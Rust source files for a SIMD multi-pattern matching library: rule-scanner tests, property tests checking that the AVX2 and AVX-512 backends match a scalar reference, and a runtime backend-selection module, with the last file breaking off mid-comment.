    fn scan_rules_reports_each_rule_once_and_scan_reports_anchor_hits() {
        let set = ruleset(vec![vec![RuleContent::new(*b"dup")]]);
        let s = scanner(&set);
        let payload = b"dup dup dup";
        assert_eq!(s.scan(payload).len(), 3, "three anchor hits");
        assert_eq!(
            s.scan_rules(payload),
            vec![RuleMatch::new(RuleId(0), 3)],
            "one confirmed rule, at the minimal end"
        );
        assert_eq!(s.scan_rules(payload), naive_rule_find_all(&set, payload));
    }

    #[test]
    fn empty_payload_and_unsatisfiable_rules() {
        let set = ruleset(vec![vec![
            RuleContent::new(*b"ab"),
            RuleContent::new(*b"missing").with_distance(0),
        ]]);
        assert_matches_naive(&set, b"");
        assert_matches_naive(&set, b"ab but nothing else");
        assert!(scanner(&set).scan_rules(b"ab but nothing else").is_empty());
    }

    #[test]
    fn payload_index_dedups_shared_contents_and_respects_windows() {
        // "ab" appears in three rules (twice case-sensitive, once nocase):
        // two distinct slots, each indexed once regardless of rule count.
        let set = ruleset(vec![
            vec![
                RuleContent::new(*b"ab"),
                RuleContent::new(*b"cd").with_distance(0),
            ],
            vec![RuleContent::new(*b"ab").with_offset(4)],
            vec![RuleContent::new(*b"ab").with_nocase(true)],
        ]);
        let confirmer = RuleConfirmer::build(&set);
        let payload = b"ab..AB..cd";
        let index = confirmer.index_payload(payload);
        // Slots: "ab" exact (1 occurrence), "cd" (1), "ab" nocase (2).
        assert_eq!(index.occurrence_count(), 4);
        assert_matches_naive(&set, payload);
        // The offset:4 window excludes the only exact "ab" at start 0.
        assert_eq!(confirmer.confirm_indexed(&index, RuleId(1)), None);
        assert_eq!(confirmer.confirm_indexed(&index, RuleId(2)), Some(2));
    }

    #[test]
    #[should_panic(expected = "different anchor set")]
    fn mismatched_engine_rejected() {
        let set = ruleset(vec![vec![RuleContent::new(*b"abcdef")]]);
        let other = ruleset(vec![vec![RuleContent::new(*b"ab")]]);
        let _ = RuleScanner::new(Arc::from(NaiveMatcher::new(other.anchors())), &set);
    }
}
