//! Property tests: every SIMD backend must agree bit-for-bit with the scalar
//! reference semantics on arbitrary inputs.

use mpm_simd::{Avx2Backend, Avx512Backend, ScalarBackend, VectorBackend, GATHER_PADDING};
use proptest::prelude::*;

fn avx2_available() -> bool {
    <Avx2Backend as VectorBackend<8>>::is_available()
}

fn avx512_available() -> bool {
    <Avx512Backend as VectorBackend<16>>::is_available()
}

proptest! {
    #[test]
    fn avx2_windows_match_scalar(input in proptest::collection::vec(any::<u8>(), 24..256), pos in 0usize..200) {
        prop_assume!(pos + 11 <= input.len());
        if !avx2_available() { return Ok(()); }
        let s2: [u32; 8] = <ScalarBackend as VectorBackend<8>>::windows2(&input, pos);
        let a2: [u32; 8] = <Avx2Backend as VectorBackend<8>>::windows2(&input, pos);
        prop_assert_eq!(s2, a2);
        let s4: [u32; 8] = <ScalarBackend as VectorBackend<8>>::windows4(&input, pos);
        let a4: [u32; 8] = <Avx2Backend as VectorBackend<8>>::windows4(&input, pos);
        prop_assert_eq!(s4, a4);
    }

    #[test]
    fn avx512_windows_match_scalar(input in proptest::collection::vec(any::<u8>(), 40..256), pos in 0usize..200) {
        prop_assume!(pos + 19 <= input.len());
        if !avx512_available() { return Ok(()); }
        let s2: [u32; 16] = <ScalarBackend as VectorBackend<16>>::windows2(&input, pos);
        let a2: [u32; 16] = <Avx512Backend as VectorBackend<16>>::windows2(&input, pos);
        prop_assert_eq!(s2, a2);
        let s4: [u32; 16] = <ScalarBackend as VectorBackend<16>>::windows4(&input, pos);
        let a4: [u32; 16] = <Avx512Backend as VectorBackend<16>>::windows4(&input, pos);
        prop_assert_eq!(s4, a4);
    }

    #[test]
    fn avx2_gather_matches_scalar(table in proptest::collection::vec(any::<u8>(), 64..2048), raw_idx in proptest::array::uniform8(any::<u32>())) {
        if !avx2_available() { return Ok(()); }
        let limit = (table.len() - GATHER_PADDING) as u32;
        let idx = raw_idx.map(|i| i % limit);
        let s = <ScalarBackend as VectorBackend<8>>::gather_bytes(&table, idx);
        let a = <Avx2Backend as VectorBackend<8>>::gather_bytes(&table, idx);
        prop_assert_eq!(s, a);
    }

    #[test]
    fn avx512_gather_matches_scalar(table in proptest::collection::vec(any::<u8>(), 64..2048), raw_idx in proptest::array::uniform16(any::<u32>())) {
        if !avx512_available() { return Ok(()); }
        let limit = (table.len() - GATHER_PADDING) as u32;
        let idx = raw_idx.map(|i| i % limit);
        let s = <ScalarBackend as VectorBackend<16>>::gather_bytes(&table, idx);
        let a = <Avx512Backend as VectorBackend<16>>::gather_bytes(&table, idx);
        prop_assert_eq!(s, a);
    }

    #[test]
    fn avx2_lane_ops_match_scalar(v in proptest::array::uniform8(any::<u32>()), mul in any::<u32>(), shift in 0u32..31, mask in any::<u32>()) {
        if !avx2_available() { return Ok(()); }
        prop_assert_eq!(
            <ScalarBackend as VectorBackend<8>>::hash_mul_shift(v, mul, shift, mask),
            <Avx2Backend as VectorBackend<8>>::hash_mul_shift(v, mul, shift, mask)
        );
        prop_assert_eq!(
            <ScalarBackend as VectorBackend<8>>::shr_const(v, shift),
            <Avx2Backend as VectorBackend<8>>::shr_const(v, shift)
        );
        prop_assert_eq!(
            <ScalarBackend as VectorBackend<8>>::and_const(v, mask),
            <Avx2Backend as VectorBackend<8>>::and_const(v, mask)
        );
        prop_assert_eq!(
            <ScalarBackend as VectorBackend<8>>::nonzero_mask(v),
            <Avx2Backend as VectorBackend<8>>::nonzero_mask(v)
        );
    }

    #[test]
    fn avx512_lane_ops_match_scalar(v in proptest::array::uniform16(any::<u32>()), mul in any::<u32>(), shift in 0u32..31, mask in any::<u32>()) {
        if !avx512_available() { return Ok(()); }
        prop_assert_eq!(
            <ScalarBackend as VectorBackend<16>>::hash_mul_shift(v, mul, shift, mask),
            <Avx512Backend as VectorBackend<16>>::hash_mul_shift(v, mul, shift, mask)
        );
        prop_assert_eq!(
            <ScalarBackend as VectorBackend<16>>::nonzero_mask(v),
            <Avx512Backend as VectorBackend<16>>::nonzero_mask(v)
        );
    }

    #[test]
    fn avx2_bit_test_matches_scalar(bytes in proptest::array::uniform8(0u32..256), windows in proptest::array::uniform8(any::<u32>())) {
        if !avx2_available() { return Ok(()); }
        prop_assert_eq!(
            <ScalarBackend as VectorBackend<8>>::test_window_bits(bytes, windows),
            <Avx2Backend as VectorBackend<8>>::test_window_bits(bytes, windows)
        );
    }

    #[test]
    fn avx512_bit_test_matches_scalar(bytes in proptest::array::uniform16(0u32..256), windows in proptest::array::uniform16(any::<u32>())) {
        if !avx512_available() { return Ok(()); }
        prop_assert_eq!(
            <ScalarBackend as VectorBackend<16>>::test_window_bits(bytes, windows),
            <Avx512Backend as VectorBackend<16>>::test_window_bits(bytes, windows)
        );
    }
}

proptest! {
    #[test]
    fn gather_u16_matches_scalar_on_all_backends(table in proptest::collection::vec(any::<u8>(), 64..2048), raw_idx in proptest::array::uniform16(any::<u32>())) {
        let limit = (table.len() - GATHER_PADDING) as u32;
        let idx16 = raw_idx.map(|i| i % limit);
        let idx8: [u32; 8] = std::array::from_fn(|j| idx16[j]);
        // Scalar default implementation is the reference.
        let expected8 = <ScalarBackend as VectorBackend<8>>::gather_u16(&table, idx8);
        for (j, &i) in idx8.iter().enumerate() {
            let want = u16::from_le_bytes([table[i as usize], table[i as usize + 1]]) as u32;
            prop_assert_eq!(expected8[j], want);
        }
        if avx2_available() {
            prop_assert_eq!(<Avx2Backend as VectorBackend<8>>::gather_u16(&table, idx8), expected8);
        }
        if avx512_available() {
            let expected16 = <ScalarBackend as VectorBackend<16>>::gather_u16(&table, idx16);
            prop_assert_eq!(<Avx512Backend as VectorBackend<16>>::gather_u16(&table, idx16), expected16);
        }
    }
}
