//! Property tests: every SIMD backend must agree bit-for-bit with the scalar
//! reference semantics on arbitrary inputs.
//!
//! The trait passes values as each backend's register type
//! (`VectorBackend::Vec`), so the tests convert at the edges with
//! `from_array` / `to_array` — exactly the boundary the register-resident
//! contract reserves for non-hot-loop code.

use mpm_simd::{Avx2Backend, Avx512Backend, ScalarBackend, VectorBackend, GATHER_PADDING};
use proptest::prelude::*;

fn avx2_available() -> bool {
    <Avx2Backend as VectorBackend<8>>::is_available()
}

fn avx512_available() -> bool {
    <Avx512Backend as VectorBackend<16>>::is_available()
}

/// Runs one backend's `windows2`/`windows4` and returns the lanes as arrays.
fn windows_arrays<B: VectorBackend<W>, const W: usize>(
    input: &[u8],
    pos: usize,
) -> ([u32; W], [u32; W]) {
    (
        B::to_array(B::windows2(input, pos)),
        B::to_array(B::windows4(input, pos)),
    )
}

proptest! {
    #[test]
    fn avx2_windows_match_scalar(input in proptest::collection::vec(any::<u8>(), 24..256), pos in 0usize..200) {
        prop_assume!(pos + 11 <= input.len());
        if !avx2_available() { return Ok(()); }
        let (s2, s4) = windows_arrays::<ScalarBackend, 8>(&input, pos);
        let (a2, a4) = windows_arrays::<Avx2Backend, 8>(&input, pos);
        prop_assert_eq!(s2, a2);
        prop_assert_eq!(s4, a4);
    }

    #[test]
    fn avx512_windows_match_scalar(input in proptest::collection::vec(any::<u8>(), 40..256), pos in 0usize..200) {
        prop_assume!(pos + 19 <= input.len());
        if !avx512_available() { return Ok(()); }
        let (s2, s4) = windows_arrays::<ScalarBackend, 16>(&input, pos);
        let (a2, a4) = windows_arrays::<Avx512Backend, 16>(&input, pos);
        prop_assert_eq!(s2, a2);
        prop_assert_eq!(s4, a4);
    }

    #[test]
    fn avx2_gather_matches_scalar(table in proptest::collection::vec(any::<u8>(), 64..2048), raw_idx in proptest::array::uniform8(any::<u32>())) {
        if !avx2_available() { return Ok(()); }
        let limit = (table.len() - GATHER_PADDING) as u32;
        let idx = raw_idx.map(|i| i % limit);
        let s = <ScalarBackend as VectorBackend<8>>::gather_bytes(&table, idx);
        let a = <Avx2Backend as VectorBackend<8>>::to_array(
            <Avx2Backend as VectorBackend<8>>::gather_bytes(
                &table,
                <Avx2Backend as VectorBackend<8>>::from_array(idx),
            ),
        );
        prop_assert_eq!(s, a);
    }

    #[test]
    fn avx512_gather_matches_scalar(table in proptest::collection::vec(any::<u8>(), 64..2048), raw_idx in proptest::array::uniform16(any::<u32>())) {
        if !avx512_available() { return Ok(()); }
        let limit = (table.len() - GATHER_PADDING) as u32;
        let idx = raw_idx.map(|i| i % limit);
        let s = <ScalarBackend as VectorBackend<16>>::gather_bytes(&table, idx);
        let a = <Avx512Backend as VectorBackend<16>>::to_array(
            <Avx512Backend as VectorBackend<16>>::gather_bytes(
                &table,
                <Avx512Backend as VectorBackend<16>>::from_array(idx),
            ),
        );
        prop_assert_eq!(s, a);
    }

    #[test]
    fn avx2_lane_ops_match_scalar(v in proptest::array::uniform8(any::<u32>()), mul in any::<u32>(), shift in 0u32..31, mask in any::<u32>()) {
        if !avx2_available() { return Ok(()); }
        type A8 = Avx2Backend;
        let reg = <A8 as VectorBackend<8>>::from_array(v);
        prop_assert_eq!(
            <ScalarBackend as VectorBackend<8>>::hash_mul_shift(v, mul, shift, mask),
            <A8 as VectorBackend<8>>::to_array(<A8 as VectorBackend<8>>::hash_mul_shift(reg, mul, shift, mask))
        );
        prop_assert_eq!(
            <ScalarBackend as VectorBackend<8>>::shr_const(v, shift),
            <A8 as VectorBackend<8>>::to_array(<A8 as VectorBackend<8>>::shr_const(reg, shift))
        );
        prop_assert_eq!(
            <ScalarBackend as VectorBackend<8>>::and_const(v, mask),
            <A8 as VectorBackend<8>>::to_array(<A8 as VectorBackend<8>>::and_const(reg, mask))
        );
        prop_assert_eq!(
            <ScalarBackend as VectorBackend<8>>::nonzero_mask(v),
            <A8 as VectorBackend<8>>::nonzero_mask(reg)
        );
    }

    #[test]
    fn avx512_lane_ops_match_scalar(v in proptest::array::uniform16(any::<u32>()), mul in any::<u32>(), shift in 0u32..31, mask in any::<u32>()) {
        if !avx512_available() { return Ok(()); }
        type A16 = Avx512Backend;
        let reg = <A16 as VectorBackend<16>>::from_array(v);
        prop_assert_eq!(
            <ScalarBackend as VectorBackend<16>>::hash_mul_shift(v, mul, shift, mask),
            <A16 as VectorBackend<16>>::to_array(<A16 as VectorBackend<16>>::hash_mul_shift(reg, mul, shift, mask))
        );
        prop_assert_eq!(
            <ScalarBackend as VectorBackend<16>>::nonzero_mask(v),
            <A16 as VectorBackend<16>>::nonzero_mask(reg)
        );
    }

    #[test]
    fn avx2_bit_test_matches_scalar(bytes in proptest::array::uniform8(0u32..256), windows in proptest::array::uniform8(any::<u32>())) {
        if !avx2_available() { return Ok(()); }
        type A8 = Avx2Backend;
        prop_assert_eq!(
            <ScalarBackend as VectorBackend<8>>::test_window_bits(bytes, windows),
            <A8 as VectorBackend<8>>::test_window_bits(
                <A8 as VectorBackend<8>>::from_array(bytes),
                <A8 as VectorBackend<8>>::from_array(windows)
            )
        );
    }

    #[test]
    fn avx512_bit_test_matches_scalar(bytes in proptest::array::uniform16(0u32..256), windows in proptest::array::uniform16(any::<u32>())) {
        if !avx512_available() { return Ok(()); }
        type A16 = Avx512Backend;
        prop_assert_eq!(
            <ScalarBackend as VectorBackend<16>>::test_window_bits(bytes, windows),
            <A16 as VectorBackend<16>>::test_window_bits(
                <A16 as VectorBackend<16>>::from_array(bytes),
                <A16 as VectorBackend<16>>::from_array(windows)
            )
        );
    }
}

proptest! {
    #[test]
    fn gather_u16_matches_scalar_on_all_backends(table in proptest::collection::vec(any::<u8>(), 64..2048), raw_idx in proptest::array::uniform16(any::<u32>())) {
        let limit = (table.len() - GATHER_PADDING) as u32;
        let idx16 = raw_idx.map(|i| i % limit);
        let idx8: [u32; 8] = std::array::from_fn(|j| idx16[j]);
        // Scalar default implementation is the reference.
        let expected8 = <ScalarBackend as VectorBackend<8>>::gather_u16(&table, idx8);
        for (j, &i) in idx8.iter().enumerate() {
            let want = u16::from_le_bytes([table[i as usize], table[i as usize + 1]]) as u32;
            prop_assert_eq!(expected8[j], want);
        }
        if avx2_available() {
            type A8 = Avx2Backend;
            prop_assert_eq!(
                <A8 as VectorBackend<8>>::to_array(<A8 as VectorBackend<8>>::gather_u16(
                    &table,
                    <A8 as VectorBackend<8>>::from_array(idx8)
                )),
                expected8
            );
        }
        if avx512_available() {
            type A16 = Avx512Backend;
            let expected16 = <ScalarBackend as VectorBackend<16>>::gather_u16(&table, idx16);
            prop_assert_eq!(
                <A16 as VectorBackend<16>>::to_array(<A16 as VectorBackend<16>>::gather_u16(
                    &table,
                    <A16 as VectorBackend<16>>::from_array(idx16)
                )),
                expected16
            );
        }
    }
}

// --- compress_store: the vectorized candidate-compaction primitive --------
//
// Scalar (the trait default's bit-loop), AVX2 (vpermd LUT) and AVX-512
// (vpcompressd) must produce byte-identical candidate arrays: same values,
// same order, same count, pre-existing contents untouched.

proptest! {
    #[test]
    fn compress_store_matches_scalar_over_random_masks_and_bases(
        masks in proptest::collection::vec(any::<u32>(), 1..40),
        base in 0u32..0x4000_0000,
        prefix in proptest::collection::vec(any::<u32>(), 0..8),
    ) {
        // Chain many appends so capacity growth and non-empty destinations
        // are exercised, not just the single-call case.
        let mut expected8 = prefix.clone();
        let mut got8 = prefix.clone();
        let mut expected16 = prefix.clone();
        let mut got16 = prefix.clone();
        for (k, &mask) in masks.iter().enumerate() {
            // Walk the base forward as the filtering loop would.
            let b = base.wrapping_add((k * 8) as u32);
            <ScalarBackend as VectorBackend<8>>::compress_store(mask, b, &mut expected8);
            if avx2_available() {
                <Avx2Backend as VectorBackend<8>>::compress_store(mask, b, &mut got8);
            }
            let b16 = base.wrapping_add((k * 16) as u32);
            <ScalarBackend as VectorBackend<16>>::compress_store(mask, b16, &mut expected16);
            if avx512_available() {
                <Avx512Backend as VectorBackend<16>>::compress_store(mask, b16, &mut got16);
            }
        }
        if avx2_available() {
            prop_assert_eq!(&got8, &expected8);
        }
        if avx512_available() {
            prop_assert_eq!(&got16, &expected16);
        }
        // The scalar reference itself: each appended run is sorted, within
        // [b, b + W), and sized by the mask popcount.
        let appended = &expected8[prefix.len()..];
        let total: u32 = masks.iter().map(|m| (m & 0xff).count_ones()).sum();
        prop_assert_eq!(appended.len() as u32, total);
    }

    #[test]
    fn compress_store_popcount_and_order_invariants(mask in any::<u32>(), base in 0u32..0x7fff_0000) {
        let mut out = Vec::new();
        <ScalarBackend as VectorBackend<16>>::compress_store(mask, base, &mut out);
        prop_assert_eq!(out.len() as u32, (mask & 0xffff).count_ones());
        prop_assert!(out.windows(2).all(|w| w[0] < w[1]));
        prop_assert!(out.iter().all(|&p| p >= base && p < base + 16));
    }
}

/// Block-boundary cases: masks emitted by consecutive filter blocks at
/// `base = 0, W, 2*W` must concatenate into the exact candidate array the
/// scalar reference produces — this is the pattern `VPatch::filter_round`
/// relies on (including its 2× unrolled `base` / `base + W` pairs).
#[test]
fn compress_store_block_boundary_cases() {
    fn check<B: VectorBackend<W>, const W: usize>(available: bool) {
        if !available {
            return;
        }
        let interesting = [
            0u32,
            1,
            1 << (W - 1),
            B::full_mask(),
            0x5555_5555 & B::full_mask(),
            0xaaaa_aaaa & B::full_mask(),
            (1 << (W / 2)) | 1,
        ];
        for &m0 in &interesting {
            for &m1 in &interesting {
                for &m2 in &interesting {
                    let mut expected = Vec::new();
                    let mut got = Vec::new();
                    for (block, &mask) in [m0, m1, m2].iter().enumerate() {
                        // Bases at exactly 0, W and 2*W: the boundaries where
                        // the unrolled vector loop stitches blocks together.
                        let base = (block * W) as u32;
                        <ScalarBackend as VectorBackend<W>>::compress_store(
                            mask,
                            base,
                            &mut expected,
                        );
                        B::compress_store(mask, base, &mut got);
                    }
                    assert_eq!(
                        got,
                        expected,
                        "backend {} masks {m0:#x}/{m1:#x}/{m2:#x}",
                        B::name()
                    );
                    // Concatenated blocks must remain strictly increasing:
                    // no duplicated or out-of-order position can cross a
                    // W or 2*W boundary.
                    assert!(got.windows(2).all(|w| w[0] < w[1]));
                }
            }
        }
    }
    check::<ScalarBackend, 8>(true);
    check::<ScalarBackend, 16>(true);
    check::<Avx2Backend, 8>(avx2_available());
    check::<Avx512Backend, 16>(avx512_available());
}

/// `base + lane` wraps modulo 2³² identically on every backend (the hardware
/// adds are wrapping; the scalar default matches). Engines never scan within
/// `W` of `u32::MAX`, but the primitive is total and must stay equivalent.
#[test]
fn compress_store_wraps_identically_near_u32_max() {
    for base in [u32::MAX, u32::MAX - 7, u32::MAX - 15] {
        for mask in [1u32, 0x8001, 0xffff, 0xaaaa] {
            let mut expected8 = Vec::new();
            <ScalarBackend as VectorBackend<8>>::compress_store(mask, base, &mut expected8);
            if avx2_available() {
                let mut got = Vec::new();
                <Avx2Backend as VectorBackend<8>>::compress_store(mask, base, &mut got);
                assert_eq!(got, expected8, "avx2 base {base:#x} mask {mask:#x}");
            }
            let mut expected16 = Vec::new();
            <ScalarBackend as VectorBackend<16>>::compress_store(mask, base, &mut expected16);
            if avx512_available() {
                let mut got = Vec::new();
                <Avx512Backend as VectorBackend<16>>::compress_store(mask, base, &mut got);
                assert_eq!(got, expected16, "avx512 base {base:#x} mask {mask:#x}");
            }
        }
    }
}

// --- gather_u32: 4-byte windows straight from candidate positions ---------

proptest! {
    #[test]
    fn gather_u32_matches_scalar_on_all_backends(table in proptest::collection::vec(any::<u8>(), 64..2048), raw_idx in proptest::array::uniform16(any::<u32>())) {
        let limit = (table.len() - GATHER_PADDING) as u32;
        let idx16 = raw_idx.map(|i| i % limit);
        let idx8: [u32; 8] = std::array::from_fn(|j| idx16[j]);
        // Scalar default implementation is the reference.
        let expected8 = <ScalarBackend as VectorBackend<8>>::gather_u32(&table, idx8);
        for (j, &i) in idx8.iter().enumerate() {
            let i = i as usize;
            let want = u32::from_le_bytes([table[i], table[i + 1], table[i + 2], table[i + 3]]);
            prop_assert_eq!(expected8[j], want);
        }
        if avx2_available() {
            type A8 = Avx2Backend;
            prop_assert_eq!(
                <A8 as VectorBackend<8>>::to_array(<A8 as VectorBackend<8>>::gather_u32(
                    &table,
                    <A8 as VectorBackend<8>>::from_array(idx8)
                )),
                expected8
            );
        }
        if avx512_available() {
            type A16 = Avx512Backend;
            let expected16 = <ScalarBackend as VectorBackend<16>>::gather_u32(&table, idx16);
            prop_assert_eq!(
                <A16 as VectorBackend<16>>::to_array(<A16 as VectorBackend<16>>::gather_u32(
                    &table,
                    <A16 as VectorBackend<16>>::from_array(idx16)
                )),
                expected16
            );
        }
    }
}

// --- eq_window / eq_window_nocase: the batched-verify compare -------------
//
// The scalar defaults (`==` / `eq_ignore_ascii_case`) are the reference
// semantics; the hardware backends' 32/64-byte compare-mask + masked-load
// implementations must agree on every byte value at every position across
// lengths that cover the full-block loop, the masked-dword remainder and the
// final scalar bytes.

/// Asserts every backend agrees with the scalar reference on one pair.
fn assert_eq_window_all_backends(a: &[u8], b: &[u8], context: &str) {
    let exact = <ScalarBackend as VectorBackend<8>>::eq_window(a, b);
    let folded = <ScalarBackend as VectorBackend<8>>::eq_window_nocase(a, b);
    assert_eq!(
        exact,
        a == b,
        "scalar eq_window reference broken: {context}"
    );
    assert_eq!(
        folded,
        a.eq_ignore_ascii_case(b),
        "scalar eq_window_nocase reference broken: {context}"
    );
    if avx2_available() {
        assert_eq!(
            <Avx2Backend as VectorBackend<8>>::eq_window(a, b),
            exact,
            "avx2 eq_window: {context}"
        );
        assert_eq!(
            <Avx2Backend as VectorBackend<8>>::eq_window_nocase(a, b),
            folded,
            "avx2 eq_window_nocase: {context}"
        );
    }
    if avx512_available() {
        assert_eq!(
            <Avx512Backend as VectorBackend<16>>::eq_window(a, b),
            exact,
            "avx512 eq_window: {context}"
        );
        assert_eq!(
            <Avx512Backend as VectorBackend<16>>::eq_window_nocase(a, b),
            folded,
            "avx512 eq_window_nocase: {context}"
        );
    }
}

/// Window lengths covering every code-path split of both hardware kernels:
/// scalar-only (< 4), masked-dword-only (4..32 / 4..64), full blocks with
/// every remainder class, and multi-block.
const EQ_WINDOW_LENGTHS: &[usize] = &[
    1, 2, 3, 4, 5, 6, 7, 8, 11, 15, 16, 19, 28, 31, 32, 33, 35, 36, 47, 48, 63, 64, 65, 67, 96,
    100, 128, 131,
];

#[test]
fn eq_window_byte_exhaustive_at_every_position_class() {
    for &len in EQ_WINDOW_LENGTHS {
        let base: Vec<u8> = (0..len).map(|i| (i as u8).wrapping_mul(37)).collect();
        // Mutation positions: start, every block/tail seam neighbourhood, end.
        let mut positions = vec![0, len / 2, len - 1];
        for seam in [4usize, 32, 64] {
            if len > seam {
                positions.push(seam - 1);
                positions.push(seam);
            }
        }
        positions.retain(|&p| p < len);
        for byte in 0..=255u8 {
            for &pos in &positions {
                // The partner byte sweeps: identical, case-toggled,
                // lowercased, and off-by-one — covering equal, fold-equal
                // and unequal outcomes for every byte value.
                for partner in [
                    byte,
                    byte ^ 0x20,
                    byte.to_ascii_lowercase(),
                    byte.wrapping_add(1),
                ] {
                    let mut a = base.clone();
                    let mut b = base.clone();
                    a[pos] = byte;
                    b[pos] = partner;
                    assert_eq_window_all_backends(
                        &a,
                        &b,
                        &format!("len {len} pos {pos} byte {byte:#04x} partner {partner:#04x}"),
                    );
                }
            }
        }
    }
}

#[test]
fn eq_window_at_the_very_end_of_an_allocation() {
    // The masked-load safety contract: windows ending exactly at the last
    // byte of a heap allocation must compare correctly without reading past
    // it (dword-masked loads + scalar tail never touch bytes outside the
    // slice). Exercised for every remainder class.
    let hay: Vec<u8> = (0..4096).map(|i| (i as u8) ^ 0x5a).collect();
    for &len in EQ_WINDOW_LENGTHS {
        let window = &hay[hay.len() - len..];
        let pattern = window.to_vec();
        assert_eq_window_all_backends(window, &pattern, &format!("end-of-alloc len {len}"));
        let mut unequal = pattern.clone();
        unequal[len - 1] ^= 0xff;
        assert_eq_window_all_backends(window, &unequal, &format!("end-of-alloc-ne len {len}"));
    }
}

proptest! {
    #[test]
    fn eq_window_matches_reference_on_random_pairs(
        a in proptest::collection::vec(any::<u8>(), 0..140),
        flips in proptest::collection::vec(any::<bool>(), 1..8),
        toggle_case in proptest::collection::vec(any::<bool>(), 1..8),
    ) {
        // Derive b from a: random case toggles (fold-equal) plus occasional
        // hard flips (unequal), so all three outcomes appear.
        let mut b = a.clone();
        for (i, byte) in b.iter_mut().enumerate() {
            if toggle_case[i % toggle_case.len()] && byte.is_ascii_alphabetic() {
                *byte ^= 0x20;
            }
            if flips[i % flips.len()] && i % 13 == 0 {
                *byte = byte.wrapping_add(1);
            }
        }
        assert_eq_window_all_backends(&a, &b, "random pair");
        assert_eq_window_all_backends(&a, &a.clone(), "identical pair");
    }
}

// --- to_ascii_lower: the case-folding primitive ---------------------------
//
// Every backend must fold exactly the bytes `b'A'..=b'Z'` (OR 0x20) in every
// packed byte position and leave everything else — digits, punctuation,
// already-lowercase letters, non-ASCII 0x80..=0xFF — untouched. The scalar
// SWAR reference is itself validated byte-exhaustively in the crate's unit
// tests; here the hardware backends are held to it on arbitrary lanes.

proptest! {
    #[test]
    fn to_ascii_lower_matches_scalar_on_random_lanes(
        v8 in proptest::array::uniform8(any::<u32>()),
        v16 in proptest::array::uniform16(any::<u32>()),
    ) {
        // Scalar reference equals the per-byte std fold.
        let expected8 = <ScalarBackend as VectorBackend<8>>::to_ascii_lower(v8);
        for (lane, &x) in v8.iter().enumerate() {
            let want = u32::from_le_bytes(x.to_le_bytes().map(|b| b.to_ascii_lowercase()));
            prop_assert_eq!(expected8[lane], want);
        }
        if avx2_available() {
            type A8 = Avx2Backend;
            prop_assert_eq!(
                <A8 as VectorBackend<8>>::to_array(<A8 as VectorBackend<8>>::to_ascii_lower(
                    <A8 as VectorBackend<8>>::from_array(v8)
                )),
                expected8
            );
        }
        let expected16 = <ScalarBackend as VectorBackend<16>>::to_ascii_lower(v16);
        if avx512_available() {
            type A16 = Avx512Backend;
            prop_assert_eq!(
                <A16 as VectorBackend<16>>::to_array(<A16 as VectorBackend<16>>::to_ascii_lower(
                    <A16 as VectorBackend<16>>::from_array(v16)
                )),
                expected16
            );
        }
    }
}
