//! Runtime backend detection and selection.
//!
//! The engines in `mpm-vpatch` / `mpm-dfc` are compiled generically over a
//! [`VectorBackend`]; this module answers the runtime question "which of
//! those instantiations can this CPU actually run, and which should I pick
//! by default?". It mirrors the paper's two platforms: AVX2 ⇒ the Haswell
//! configuration (8 lanes), AVX-512 ⇒ the Xeon-Phi-width configuration
//! (16 lanes).

use crate::{Avx2Backend, Avx512Backend, ScalarBackend, VectorBackend};

/// The backends an engine can be instantiated with.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Hash)]
pub enum BackendKind {
    /// Portable scalar loops (always available).
    Scalar,
    /// AVX2, 8 × 32-bit lanes (the paper's Haswell platform).
    Avx2,
    /// AVX-512F, 16 × 32-bit lanes (the paper's Xeon-Phi vector width).
    Avx512,
}

impl BackendKind {
    /// Number of 32-bit lanes this backend processes per iteration.
    /// The scalar backend is reported as 1 (it has no fixed width; engines
    /// choose the width they instantiate it at).
    pub fn lanes(self) -> usize {
        match self {
            BackendKind::Scalar => 1,
            BackendKind::Avx2 => 8,
            BackendKind::Avx512 => 16,
        }
    }

    /// Display name.
    pub fn name(self) -> &'static str {
        match self {
            BackendKind::Scalar => "scalar",
            BackendKind::Avx2 => "avx2",
            BackendKind::Avx512 => "avx512",
        }
    }

    /// True if the current CPU can run this backend.
    pub fn is_available(self) -> bool {
        match self {
            BackendKind::Scalar => <ScalarBackend as VectorBackend<8>>::is_available(),
            BackendKind::Avx2 => <Avx2Backend as VectorBackend<8>>::is_available(),
            BackendKind::Avx512 => <Avx512Backend as VectorBackend<16>>::is_available(),
        }
    }
}

impl std::fmt::Display for BackendKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// Returns every backend the current CPU supports, in increasing width order
/// (scalar is always present).
pub fn available_backends() -> Vec<BackendKind> {
    let mut v = vec![BackendKind::Scalar];
    if BackendKind::Avx2.is_available() {
        v.push(BackendKind::Avx2);
    }
    if BackendKind::Avx512.is_available() {
        v.push(BackendKind::Avx512);
    }
    v
}

/// The widest available backend — what an engine's `new_auto` constructor
/// should pick for best throughput on this machine.
pub fn detect_best() -> BackendKind {
    *available_backends()
        .last()
        .expect("scalar is always available")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scalar_is_always_available() {
        assert!(BackendKind::Scalar.is_available());
        assert!(available_backends().contains(&BackendKind::Scalar));
    }

    #[test]
    fn detect_best_returns_an_available_backend() {
        let best = detect_best();
        assert!(best.is_available());
        // Best is the last (widest) entry of the available list.
        assert_eq!(best, *available_backends().last().unwrap());
    }

    #[test]
    fn lanes_and_names() {
        assert_eq!(BackendKind::Scalar.lanes(), 1);
        assert_eq!(BackendKind::Avx2.lanes(), 8);
        assert_eq!(BackendKind::Avx512.lanes(), 16);
        assert_eq!(BackendKind::Avx2.name(), "avx2");
        assert_eq!(format!("{}", BackendKind::Avx512), "avx512");
    }

    #[test]
    fn available_list_is_ordered_by_width() {
        let list = available_backends();
        let lanes: Vec<usize> = list.iter().map(|b| b.lanes()).collect();
        let mut sorted = lanes.clone();
        sorted.sort_unstable();
        assert_eq!(lanes, sorted);
    }
}
