//! Runtime backend detection and selection.
//!
//! The engines in `mpm-vpatch` / `mpm-dfc` are compiled generically over a
//! [`VectorBackend`]; this module answers the runtime question "which of
//! those instantiations can this CPU actually run, and which should I pick
//! by default?". It mirrors the paper's two platforms: AVX2 ⇒ the Haswell
//! configuration (8 lanes), AVX-512 ⇒ the Xeon-Phi-width configuration
//! (16 lanes).
//!
//! # Forcing a backend
//!
//! Setting [`FORCE_BACKEND_ENV`] (`MPM_FORCE_BACKEND=scalar|avx2|avx512`)
//! pins the *dispatch-level* selection: [`detect_best`] returns the forced
//! backend and [`available_backends`] returns only it, so everything built
//! through auto-selection (engine `build_auto` constructors, tests and
